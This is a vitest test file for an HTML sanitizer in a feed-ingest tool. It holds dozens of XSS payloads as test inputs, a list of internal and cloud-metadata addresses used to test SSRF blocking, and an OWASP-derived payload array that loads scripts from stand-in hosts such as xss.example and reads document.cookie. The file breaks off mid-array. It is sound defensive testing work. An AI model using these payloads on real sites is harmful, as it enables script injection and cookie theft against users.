import { Parser } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { forbiddenAddressReason, isIpLiteral, isLocalhostName } from '../src/ingest/address.ts';
import { defaultVideoIframeHosts, htmlToText, sanitizeContent, truncateText } from '../src/ingest/sanitize.ts';

const BASE = 'https://news.example/2024/05/story.html';
const REL = 'rel="noopener noreferrer nofollow ugc"';
// The elements sanitizeContent may write (its allowlist).
const OUTPUT_TAGS = new Set(
  [
    'a abbr acronym address area article aside audio b bdi bdo big blockquote br canvas caption center cite code col colgroup',
    'datagrid datalist dd del details dfn dialog dir div dl dt em event-source fieldset figcaption figure font footer',
    'h1 h2 h3 h4 h5 h6 header hgroup hr i img ins kbd keygen label legend li m main map mark menu meter multicol nav nextid ol',
    'optgroup option output p pre progress q rp rt ruby s samp section small sound source spacer span strike strong sub summary sup',
    'table tbody td tfoot th thead time tr track tt u ul var video wbr',
  ]
    .join(' ')
    .split(' '),
);
const VOID_TAGS = new Set(['area', 'br', 'col', 'hr', 'img', 'keygen', 'source', 'track', 'wbr']);
const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;

// Checks the output is balanced, quoted and entity-clean enough to parse as XHTML, and returns the element names it uses.
function expectWellFormed(html: string): string[] {
  const open: string[] = [];
  const names: string[] = [];
  const withoutTags = html.replace(/<(\/?)([a-z][a-z0-9-]*)((?:\s+[a-z-]+="[^"<>]*")*)\s*(\/?)>/g, (_, close, name, _attrs, selfClose) => {
    names.push(name);
    if (close) expect(open.pop(), `closing </${name}> in ${html}`).toBe(name);
    else if (selfClose) expect(VOID_TAGS.has(name), `<${name} /> in ${html}`).toBe(true);
    else open.push(name);
    return '';
  });
  expect(open, `unclosed elements in ${html}`).toEqual([]);
  expect(withoutTags, 'stray markup characters').not.toMatch(/[<>]/);
  expect(html, 'bare ampersand').not.toMatch(/&(?!(?:amp|lt|gt|quot);)/);
  return names;
}

function expectSafe(html: string, allowedTags: ReadonlySet<string> = OUTPUT_TAGS): void {
  expect(html).not.toMatch(/\bon\w+\s*=/i);
  expect(html).not.toMatch(/javascript:|vbscript:|data:text/i);
  expect(html).not.toMatch(/<\s*\/?\s*(?:script|style|iframe|frame|object|embed|form|input|button|svg|math|meta|base|link|template)\b/i);
  expect(html).not.toMatch(/\s(?:style|class|id|srcset|srcdoc|target)=/i);
  for (const name of expectWellFormed(html)) expect(allowedTags.has(name), `<${name}> in ${html}`).toBe(true);
}

describe('sanitizeContent: XSS vectors', () => {
  const svgPayload = 'PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=';
  it.each([
    ['img onerror', '<img src=x onerror=alert(1)>'],
    ['uppercase tag, unquoted scheme and handler', "<IMG SRC=JaVaScRiPt:alert('XSS') ONERROR=alert(1)>"],
    ['svg onload', '<svg onload=alert(1)><circle r="1"/></svg>'],
    ['svg script', '<svg><script>alert(1)</script></svg>'],
    ['javascript: href', '<a href="javascript:alert(1)">click</a>'],
    ['mixed case scheme', '<a href="JaVaScRiPt:alert(1)">click</a>'],
    ['tab entity inside the scheme', '<a href="jav&#x09;ascript:alert(1)">click</a>'],
    ['newline entity inside the scheme', '<a href="jav&#x0A;ascript:alert(1)">click</a>'],
    ['literal tab inside the scheme', '<a href="jav\tascript:alert(1)">click</a>'],
    ['decimal entities', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>'],
    [
      'zero-padded entities without semicolons',
      '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">click</a>',
    ],
    ['hex entities', '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">click</a>'],
    ['named colon entity', '<a href="javascript&colon;alert(1)">click</a>'],
    ['leading control characters and spaces', '<a href=" &#14;  javascript:alert(1)">click</a>'],
    ['javascript: img src', '<img src="javascript:alert(1)">'],
    ['vbscript:', '<a href="vbscript:msgbox(1)">click</a>'],
    ['data:text/html href', '<a href="data:text/html,<script>alert(1)</script>">click</a>'],
    ['data:text/html base64 href', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>'],
    ['data:image/svg+xml img', `<img src="data:image/svg+xml;base64,${svgPayload}">`],
    ['data:image/svg+xml with parameters', `<img src="data:image/svg+xml;charset=utf-8;base64,${svgPayload}">`],
    ['data:image/png with markup payload', '<img src="data:image/png;base64,<script>alert(1)</script>">'],
    ['iframe javascript:', '<iframe src="javascript:alert(1)"></iframe>'],
    ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ['frameset', '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>'],
    ['object', '<object data="javascript:alert(1)"><param name="x" value="y">fallback</object>'],
    ['object with data:text/html', '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>'],
    ['embed', '<embed src="https://evil.example/x.swf">'],
    ['embed svg', `<embed src="data:image/svg+xml;base64,${svgPayload}">`],
    [
      'form action',
      '<form action="javascript:alert(1)"><input name="q" onfocus=alert(1) autofocus><button formaction="javascript:alert(1)">Go</button></form>',
    ],
    ['select and textarea', '<select onchange=alert(1)><option>x</option></select><textarea onfocus=alert(1)></textarea>'],
    ['style @import', '<style>@import "https://evil.example/x.css";</style>'],
    ['style url(javascript:)', '<div style="background:url(javascript:alert(1))">styled</div>'],
    ['style expression()', '<div style="width: expression(alert(1));" class="x" id="y">styled</div>'],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
    ['base href', '<base href="javascript:alert(1)//"><a href="/x">x</a>'],
    ['link stylesheet', '<link rel="stylesheet" href="javascript:alert(1)">'],
    ['math/table/style namespace confusion', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
    ['noscript attribute breakout', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
    ['noembed attribute breakout', '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>'],
    ['xmp attribute breakout', '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>'],
    ['style raw-text breakout', '<style><img src="</style><img src=x onerror=alert(1)//">'],
    ['title raw text', '<title><img src=x onerror=alert(1)></title>'],
    ['template', '<template><img src=x onerror=alert(1)></template>'],
    ['nested script tag names', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
    ['unclosed script', '<p>text<script>alert(1)'],
    ['unclosed img tag', '<img src=x onerror=alert(1)//'],
    ['unclosed elements', '<div><p><a href="javascript:alert(1)"><b>bold'],
    ['comment', '<!--<img src=x onerror=1>-->'],
    ['conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'],
    ['CDATA', '<![CDATA[<img src=x onerror=alert(1)>]]>'],
    ['img srcset', '<img src="/a.png" srcset="javascript:alert(1) 1x, https://evil.example/b.png 2x">'],
    ['body onload', '<body onload=alert(1)><p>x</p></body>'],
    ['details ontoggle', '<details open ontoggle=alert(1)><summary>s</summary></details>'],
    ['unknown element with handler', '<x onmouseover=alert(1)>hover</x>'],
    ['video source onerror', '<video><source onerror=alert(1)></video>'],
    ['table background', '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'],
    ['img dynsrc/lowsrc', '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">'],
    ['blockquote cite javascript:', '<blockquote cite="javascript:alert(1)">q</blockquote>'],
    ['attribute quote breakout', '<a href="https://ok.example/" title=\'"><script>alert(1)</script>\'>ok</a>'],
    ['isindex', '<isindex action="javascript:alert(1)" type="image">'],
  ])('%s', (_, html) => {
    expectSafe(sanitizeContent(html, { baseUrl: BASE }));
    expectSafe(sanitizeContent(html, {}));
    expectSafe(sanitizeContent(html, { baseUrl: BASE, iframeHosts: [...defaultVideoIframeHosts] }), new Set([...OUTPUT_TAGS, 'iframe']));
  });

  it.each([
    ['<a href="javascript:alert(1)">click</a>', 'click'],
    ['<a href="jav&#x09;ascript:alert(1)">click <b>me</b></a>', 'click <b>me</b>'],
    ['<a href="https://ok.example/" onclick="alert(1)" target="_blank">ok</a>', `<a href="https://ok.example/" ${REL}>ok</a>`],
    ['<p>before<script>alert(1)</script>after</p>', '<p>beforeafter</p>'],
    ['<svg><text>hidden</text></svg>visible', 'visible'],
    ['<form><label>Name</label><input value="x"></form>next', 'next'],
    ['<noscript><p>hidden</p></noscript>visible', 'visible'],
    ['<x-widget onclick="alert(1)">kept text</x-widget>', 'kept text'],
    ['<div style="color:red" class="c" id="i" data-x="1">d</div>', '<div>d</div>'],
    ['<img src="javascript:alert(1)" alt="x">', ''],
    [
      '<a href="https://ok.example/" title=\'"><script>\'>ok</a>',
      `<a href="https://ok.example/" title="&quot;&gt;&lt;script&gt;" ${REL}>ok</a>`,
    ],
    ['<p>a<!-- secret -->b</p>', '<p>ab</p>'],
    // Payloads that survive only as inert text: an escaped attribute value, and a backtick-quoted value that is a relative path.
    [
      '<img src="x" alt="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">',
      '<img src="https://news.example/2024/05/x" alt="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;" loading="lazy" />',
    ],
    ['<img src=`javascript:alert(1)`>', '<img src="https://news.example/2024/05/%60javascript:alert(1)%60" loading="lazy" />'],
  ])('%s -> %s', (html, expected) => expect(sanitizeContent(html, { baseUrl: BASE })).toBe(expected));
});

describe('sanitizeContent: URLs', () => {
  it.each([
    ['<a href="../about">a</a>', `<a href="https://news.example/2024/about" ${REL}>a</a>`],
    ['<a href="/x?y=1&amp;z=2#top">a</a>', `<a href="https://news.example/x?y=1&amp;z=2#top" ${REL}>a</a>`],
    ['<a href="#notes">a</a>', `<a href="https://news.example/2024/05/story.html#notes" ${REL}>a</a>`],
    ['<a href="  https://other.example/p  ">a</a>', `<a href="https://other.example/p" ${REL}>a</a>`],
    ['<a href="mailto:desk@news.example">mail</a>', `<a href="mailto:desk@news.example" ${REL}>mail</a>`],
    ['<a href="tel:+123">call</a>', 'call'],
    ['<a href="ftp://files.example/x">ftp</a>', 'ftp'],
    ['<a href="http://[broken">broken</a>', 'broken'],
    ['<a href="//evil.example/x">p</a>', `<a href="https://evil.example/x" ${REL}>p</a>`],
    ['<a href="/\\evil.example/x">p</a>', `<a href="https://evil.example/x" ${REL}>p</a>`],
    ['<img src="img/chart.png" alt="Chart">', '<img src="https://news.example/2024/05/img/chart.png" alt="Chart" loading="lazy" />'],
    ['<img src="/logo.png" loading="eager">', '<img src="https://news.example/logo.png" loading="lazy" />'],
    ['<img alt="no source">', '<img alt="no source" />'],
    ['<blockquote cite="/source">q</blockquote>', '<blockquote cite="https://news.example/source">q</blockquote>'],
    ['<q cite="mailto:x@y.example">q</q>', '<q>q</q>'],
  ])('%s -> %s', (html, expected) => expect(sanitizeContent(html, { baseUrl: BASE })).toBe(expected));

  it('resolves protocol-relative URLs with the base scheme', () => {
    expect(sanitizeContent('<img src="//cdn.example/a.png">', { baseUrl: 'http://news.example/' })).toBe(
      '<img src="http://cdn.example/a.png" loading="lazy" />',
    );
  });

  it('keeps relative URLs unchanged without a usable base, but still rejects dangerous ones', () => {
    for (const baseUrl of [undefined, 'not a url', 'javascript:alert(1)']) {
      expect(sanitizeContent('<a href="../about">a</a><img src="i.png">', { baseUrl })).toBe(
        `<a href="../about" ${REL}>a</a><img src="i.png" loading="lazy" />`,
      );
      expect(sanitizeContent('<a href="jav&#x09;ascript:alert(1)">a</a>', { baseUrl })).toBe('a');
      expect(sanitizeContent('<a href="//evil.example/">a</a>', { baseUrl })).toBe(`<a href="https://evil.example/" ${REL}>a</a>`);
    }
  });

  it.each(['png', 'gif', 'jpeg', 'webp'])('keeps data:image/%s images', (type) => {
    const src = `data:image/${type};base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==`;
    expect(sanitizeContent(`<img src="${src}" alt="">`, {})).toBe(`<img src="${src}" alt="" loading="lazy" />`);
  });

  it('does not let characters XML cannot carry hide a scheme, with or without a base', () => {
    for (const baseUrl of [undefined, BASE]) {
      for (const href of [
        'javas\uFFFEcript:alert(1)',
        'javas&#xFFFE;cript:alert(1)',
        'javas&#1;cript:alert(1)',
        'javas\uD800cript:alert(1)',
      ]) {
        expect(sanitizeContent(`<a href="${href}">x</a>`, { baseUrl })).not.toMatch(/javascript:/i);
      }
    }
  });

  it('drops data: URLs everywhere else', () => {
    expect(sanitizeContent('<img src="data:image/bmp;base64,Qk0=">', {})).toBe('');
    expect(sanitizeContent('<img src="data:image/png,rawbytes">', {})).toBe('');
    expect(sanitizeContent('<a href="data:image/png;base64,iVBORw0KGgo=">img</a>', {})).toBe('img');
  });
});

describe('sanitizeContent: iframes', () => {
  const youtube =
    '<iframe src="https://www.youtube.com/embed/abc" width="560" height="315" allowfullscreen onload="alert(1)">fallback</iframe>';

  it('documents the suggested video hosts', () => {
    expect(defaultVideoIframeHosts).toEqual(['www.youtube.com', 'www.youtube-nocookie.com', 'player.vimeo.com']);
  });

  it('drops every iframe by default', () => {
    expect(sanitizeContent(`<p>a</p>${youtube}<p>b</p>`, { baseUrl: BASE })).toBe('<p>a</p><p>b</p>');
  });

  it('keeps an iframe from an allowlisted host, without handlers or fallback content', () => {
    expect(sanitizeContent(youtube, { iframeHosts: [...defaultVideoIframeHosts] })).toBe(
      '<iframe src="https://www.youtube.com/embed/abc" width="560" height="315" allowfullscreen=""></iframe>',
    );
  });

  it.each([
    'https://evil.example/embed',
    'https://www.youtube.com.evil.example/embed',
    'https://evil.example/?u=https://www.youtube.com/',
    'https://www.youtube.com@evil.example/',
    'javascript://www.youtube.com/%0aalert(1)',
    'data:text/html,<script>alert(1)</script>',
    '/embed/relative',
  ])('drops an iframe from %s even with an allowlist', (src) => {
    expect(
      sanitizeContent(`<iframe src="${src}">fallback <b>text</b></iframe>after`, { baseUrl: BASE, iframeHosts: ['www.youtube.com'] }),
    ).toBe('after');
  });

  it('resolves a protocol-relative iframe against the base before checking the host', () => {
    expect(
      sanitizeContent('<iframe src="//player.vimeo.com/video/1"></iframe>', { baseUrl: BASE, iframeHosts: ['player.vimeo.com'] }),
    ).toBe('<iframe src="https://player.vimeo.com/video/1"></iframe>');
  });
});

describe('sanitizeContent: markup', () => {
  it('preserves an allowed article exactly, adding rel to links', () => {
    const article = [
      '<h2>Markets</h2>',
      '<p>Bitcoin <strong>rose</strong> <em>5%</em> on <time datetime="2024-05-01">May 1</time>, says <a href="https://example.com/report" title="Report">the report</a>.</p>',
      '<h3>Details</h3>',
      '<ul><li>One</li><li>Two <code>x &lt; y &amp;&amp; z</code></li></ul>',
      '<ol start="3" reversed=""><li>Three</li></ol>',
      '<dl><dt>HODL</dt><dd>Hold <abbr title="on">for dear life</abbr></dd></dl>',
      '<blockquote cite="https://example.com/q"><p>Quote <q>inner</q> <cite>Someone</cite></p></blockquote>',
      '<table><caption>Prices</caption><thead><tr><th scope="col">Coin</th><th>Price</th></tr></thead>',
      '<tbody><tr><td>BTC</td><td rowspan="2">1</td></tr></tbody><tfoot><tr><td colspan="2">Total</td></tr></tfoot></table>',
      '<pre><code>const a = 1;\n  return a;\n</code></pre>',
      '<figure><img src="https://example.com/a.png" alt="Chart" width="600" height="400" loading="lazy" /><figcaption>Chart</figcaption></figure>',
      '<p>H<sub>2</sub>O, x<sup>2</sup>, <kbd>Ctrl</kbd>, <samp>out</samp>, <mark>m</mark>, <small>s</small>, <s>old</s>, <u>u</u>, <b>b</b>, <i>i</i></p>',
      '<p><del>removed</del><ins>added</ins><span>span</span><br /></p><hr /><div>end</div>',
    ].join('\n');
    const expected = article.replace(
      '<a href="https://example.com/report" title="Report">',
      `<a href="https://example.com/report" title="Report" ${REL}>`,
    );
    expect(sanitizeContent(article, { baseUrl: BASE })).toBe(expected);
    expectSafe(expected);
  });

  it('keeps h1 and acronym as written', () => {
    expect(sanitizeContent('<h1 id="t">Title</h1><acronym title="Bitcoin">BTC</acronym>', {})).toBe(
      '<h1>Title</h1><acronym title="Bitcoin">BTC</acronym>',
    );
  });

  it('keeps sectioning and legacy presentational elements', () => {
    expect(sanitizeContent('<article><section><font color="red">Hi</font> <center>there</center></section></article>', {})).toBe(
      '<article><section><font color="red">Hi</font> <center>there</center></section></article>',
    );
  });

  it('unwraps unknown elements and keeps their text', () => {
    expect(sanitizeContent('<x-card><blink>Hi</blink> <marquee>there</marquee></x-card>', {})).toBe('Hi there');
  });

  it.each([
    '<p>unclosed <b>bold <i>italic',
    '<b><i>misnested</b></i>',
    '<p><div>block in paragraph</div></p>',
    '<ul><li>one<li>two</ul>',
    '<table><tr><td>a<td>b</table>',
    '</div></p>stray closers<br>',
    '<img src="/a.png"><br><hr>',
  ])('closes and balances %s', (html) => {
    expectWellFormed(sanitizeContent(html, { baseUrl: BASE }));
  });

  it('removes characters that are invalid in XML', () => {
    expect(sanitizeContent('<p>a\u0001b\uFFFEc\uD800d</p>', {})).toBe('<p>abcd</p>');
  });
});

describe('sanitizeContent: kept markup', () => {
  it.each([
    ['<section><header><h1>T</h1></header><nav>n</nav><aside>a</aside><footer>f</footer></section>', null],
    ['<details open=""><summary>More</summary><p>Body</p></details>', null],
    [
      '<p><big>b</big> <tt>t</tt> <strike>s</strike> <dfn>d</dfn> <var>v</var> <bdi>b</bdi> <ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby></p>',
      null,
    ],
    [
      '<table border="1" cellpadding="2" summary="s"><colgroup span="2"><col width="10" /></colgroup><tr><td align="left" valign="top" nowrap="" headers="h" abbr="a">x</td></tr></table>',
      null,
    ],
    ['<span title="t" lang="es" dir="rtl" hidden="">x</span><span></span><a></a><p></p>', null],
    [
      '<fieldset disabled=""><legend>L</legend><label>Name</label> <output>4</output> <meter value="0.5" min="0" max="1">50%</meter> <progress value="3" max="9"></progress></fieldset>',
      null,
    ],
    ['<datalist><option value="v" label="l" selected="">o</option><optgroup label="g"></optgroup></datalist>', null],
    [
      '<ol start="3" reversed="" type="i"><li value="4">x</li></ol><ul compact="" type="disc"><li>y</li></ul><dir><li>z</li></dir><menu><li>m</li></menu>',
      null,
    ],
    [
      '<video poster="p.jpg" controls preload="none" width="640" height="360" loop muted><source src="v.mp4" type="video/mp4" /><track kind="captions" src="c.vtt" srclang="en" label="English" default />Fallback</video>',
      '<video poster="https://news.example/2024/05/p.jpg" controls="" preload="none" width="640" height="360" loop="" muted=""><source src="https://news.example/2024/05/v.mp4" type="video/mp4" /><track kind="captions" src="https://news.example/2024/05/c.vtt" srclang="en" label="English" default="" />Fallback</video>',
    ],
    ['<audio src="/a.mp3" controls autoplay></audio>', '<audio src="https://news.example/a.mp3" controls=""></audio>'],
    [
      '<map><area shape="rect" coords="0,0,10,10" href="/x" alt="X" /></map><img src="/m.png" ismap alt="" />',
      `<map><area shape="rect" coords="0,0,10,10" href="https://news.example/x" alt="X" ${REL} /></map><img src="https://news.example/m.png" ismap="" alt="" loading="lazy" />`,
    ],
    [
      '<table background="/bg.png"><tr><td background="bg.png">x</td></tr></table><img src="a.png" longdesc="d.html" lowsrc="l.png" />',
      '<table background="https://news.example/bg.png"><tr><td background="https://news.example/2024/05/bg.png">x</td></tr></table><img src="https://news.example/2024/05/a.png" longdesc="https://news.example/2024/05/d.html" lowsrc="https://news.example/2024/05/l.png" loading="lazy" />',
    ],
    [
      '<del cite="/why" datetime="2024-05-01">old</del><ins cite="why">new</ins>',
      '<del cite="https://news.example/why" datetime="2024-05-01">old</del><ins cite="https://news.example/2024/05/why">new</ins>',
    ],
    ['<span href="" src="" cite="" ping="">empty URLs request nothing</span>', null],
    ['<canvas width="1" height="1">no canvas</canvas><dialog>closed</dialog><keygen /><spacer></spacer>', null],
  ])('%s', (html, expected) => {
    const out = sanitizeContent(html, { baseUrl: BASE });
    expect(out).toBe(expected ?? html);
    expectSafe(out);
  });

  it.each([
    ['<span id="x" name="y" class="z" style="color:red" data-x="1" onclick="f()" autoplay>s</span>', '<span>s</span>'],
    [
      '<img src="/a.png" name="getElementById" id="cookie" srcset="/b.png 2x" sizes="50vw" usemap="#nav">',
      '<img src="https://news.example/a.png" loading="lazy" />',
    ],
    ['<a href="/x" target="_top" ping="https://tracker.example/" rel="opener">x</a>', `<a href="https://news.example/x" ${REL}>x</a>`],
    ['<a name="anchor">a</a><a>b</a>', '<a>a</a><a>b</a>'],
    ['<label for="admin-delete">Click</label>', '<label>Click</label>'],
    ['<output form="admin" name="action">1</output><fieldset form="admin">f</fieldset>', '<output>1</output><fieldset>f</fieldset>'],
    ['<dialog open>Sign in again</dialog>', '<dialog>Sign in again</dialog>'],
    [
      '<span ping="/a https://tracker.example/b javascript:alert(1) http://127.0.0.1/c">p</span>',
      '<span ping="https://news.example/a https://tracker.example/b">p</span>',
    ],
    [
      '<p>a</p><form action="/f"><input name="q"><button>Go</button><select><option>o</option></select><textarea>t</textarea></form><p>b</p>',
      '<p>a</p><p>b</p>',
    ],
    ['<noscript><p>hidden</p></noscript><command>c</command>', 'c'],
    ['<x-card><blink>b</blink></x-card>', 'b'],
  ])('refuses attributes and elements that reach beyond the content: %s', (html, expected) => {
    expect(sanitizeContent(html, { baseUrl: BASE })).toBe(expected);
  });
});

describe('sanitizeContent: internal addresses', () => {
  it.each([
    'http://127.0.0.1/x',
    'http://127.1/x',
    'http://2130706433/x',
    'http://0x7f.0.0.1/x',
    'http://017700000001/x',
    'http://0/x',
    'http://0.0.0.0/x',
    'http://localhost/x',
    'http://LOCALHOST./x',
    'http://printer.localhost/x',
    'http://[::1]/x',
    'http://[::ffff:127.0.0.1]/x',
    'http://[::ffff:7f00:1]/x',
    'http://[64:ff9b::a00:1]/x',
    'http://[2002:c0a8:101::]/x',
    'http://[fe80::1]/x',
    'http://[fd00:ec2::254]/latest/meta-data/',
    'http://169.254.169.254/latest/meta-data/',
    'http://10.0.0.1/x',
    'http://172.16.5.4/x',
    'http://192.168.1.1/x',
    'http://100.64.0.1/x',
    '//127.0.0.1/x',
    'https://user@127.0.0.1:8080/x',
  ])('refuses %s in every URL-bearing attribute', (url) => {
    expect(sanitizeContent(`<a href="${url}">link</a>`, { baseUrl: BASE })).toBe('link');
    expect(sanitizeContent(`<img src="${url}">`, { baseUrl: BASE })).toBe('');
    expect(sanitizeContent(`<area href="${url}">`, { baseUrl: BASE })).toBe('');
    expect(
      sanitizeContent(
        `<video poster="${url}" src="${url}"><source src="${url}"><track src="${url}"></video><blockquote cite="${url}">q</blockquote>` +
          `<table background="${url}"><tr><td>t</td></tr></table><span data="${url}" longdesc="${url}" lowsrc="${url}" ping="${url}">s</span>`,
        { baseUrl: BASE },
      ),
    ).toBe('<video><source /><track /></video><blockquote>q</blockquote><table><tr><td>t</td></tr></table><span ping="">s</span>');
    expect(sanitizeContent(`<iframe src="${url}"></iframe>x`, { baseUrl: BASE, iframeHosts: [new URL(url, BASE).hostname] })).toBe('x');
  });

  it('refuses relative URLs when the base itself is internal', () => {
    expect(sanitizeContent('<a href="/x">x</a><img src="i.png">', { baseUrl: 'http://192.168.0.10/feed.xml' })).toBe('x');
  });

  it('keeps public addresses, IP literals included', () => {
    expect(sanitizeContent('<img src="http://93.184.215.14/a.png"><a href="http://[2606:4700::1111]/">v6</a>', {})).toBe(
      `<img src="http://93.184.215.14/a.png" loading="lazy" /><a href="http://[2606:4700::1111]/" ${REL}>v6</a>`,
    );
  });
});

// Every attribute that some browser dereferences as a URL, kept by us or not.
const URL_BEARING = new Set(
  [
    'action archive background cite classid code codebase data datasrc dynsrc formaction href icon imagesrcset itemtype longdesc',
    'lowsrc manifest ping poster profile src srcset usemap vrml xlink:href',
  ]
    .join(' ')
    .split(' '),
);
const SAFE_SCHEMES = new Set(['http:', 'https:', 'mailto:']);
const RASTER_DATA = /^data:image\/(?:png|gif|jpeg|webp);base64,[a-z0-9+/]+=*$/i;

// WHATWG URL strips C0 controls and spaces around a URL; some older browsers ignored control characters anywhere.
const c0AndSpace = '\\u0000-\\u0020';
const URL_TRIM = new RegExp(`^[${c0AndSpace}]+|[${c0AndSpace}]+$`, 'g');
const CONTROLS = new RegExp(`[${c0AndSpace}\\u007F-\\u009F]`, 'g');

function urlProblem(tag: string, attribute: string, value: string): string | undefined {
  // The URL as the URL parser reads it (tab and newline removed anywhere), and a stricter view without any control character.
  const parsed = value.replace(/[\t\n\r]/g, '').replace(URL_TRIM, '');
  const compact = value.replace(CONTROLS, '');
  if (/^data:/i.test(compact)) return tag === 'img' && attribute === 'src' && RASTER_DATA.test(compact) ? undefined : 'data: URL';
  if (/^(?:javascript|vbscript|livescript):/i.test(compact)) return 'script URL';
  if (parsed === '' || !URL.canParse(parsed, 'https://checker.invalid/')) return undefined;
  const url = new URL(parsed, 'https://checker.invalid/');
  if (!SAFE_SCHEMES.has(url.protocol)) return `${url.protocol} URL`;
  const host = url.hostname;
  if (isLocalhostName(host) || (isIpLiteral(host) && forbiddenAddressReason(host) !== undefined)) return `internal host ${host}`;
  return undefined;
}

/** Every executable vector (or internal fetch) left in sanitized output, found by parsing it and walking each element and attribute. */
function scriptVectors(html: string, iframeHosts: readonly string[] = []): string[] {
  const found: string[] = [];
  if (/<\s*\/?\s*(?:script|style)/i.test(html)) found.push('script or style tag text');
  const parser = new Parser(
    {
      onopentag(name, attribs) {
        if (!OUTPUT_TAGS.has(name) && !(name === 'iframe' && iframeHosts.length > 0)) found.push(`<${name}>`);
        if (name === 'iframe' && !(URL.canParse(attribs.src ?? '') && iframeHosts.includes(new URL(attribs.src!).hostname)))
          found.push(`<iframe src="${attribs.src}">`);
        for (const [key, value] of Object.entries(attribs)) {
          if (/^on/.test(key) || key.includes(':') || ['style', 'srcdoc', 'formaction', 'srcset', 'id', 'name'].includes(key))
            found.push(`${name} ${key}`);
          if (!URL_BEARING.has(key)) continue;
          for (const url of key === 'ping' ? value.split(/\s+/) : [value]) {
            const problem = urlProblem(name, key, url);
            if (problem) found.push(`${name} ${key}: ${problem} (${url})`);
          }
        }
      },
      oncomment(data) {
        found.push(`comment ${data}`);
      },
      onprocessinginstruction(name) {
        found.push(`declaration ${name}`);
      },
    },
    { decodeEntities: true },
  );
  parser.end(html);
  return found;
}

const JS = 'alert(1)';
const SVG_DATA = 'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=';

// OWASP's XSS filter evasion cheat sheet, html5sec.org and known sanitizer bypasses, adapted to feed content.
const HOSTILE: string[] = [
  `<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  `\\<a onmouseover="alert(document.cookie)"\\>xxs link\\</a\\>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC= onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>`,
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.example/xss.js?< B >`,
  `<IMG SRC="\`<javascript:alert>\`('XSS')"`,
  `<iframe src=http://xss.example/scriptlet.html <`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<IMG LOWSRC="javascript:alert('XSS')">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<IMG SRC='vbscript:msgbox("XSS")'>`,
  `<IMG SRC="livescript:[code]">`,
  `<svg/onload=alert('XSS')>`,
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<STYLE>@import'http://xss.example/xss.css';</STYLE>`,
  `<META HTTP-EQUIV="Link" Content="<http://xss.example/xss.css>; REL=stylesheet">`,
  `<STYLE>BODY{-moz-binding:url("http://xss.example/xssmoz.xml#xss")}</STYLE>`,
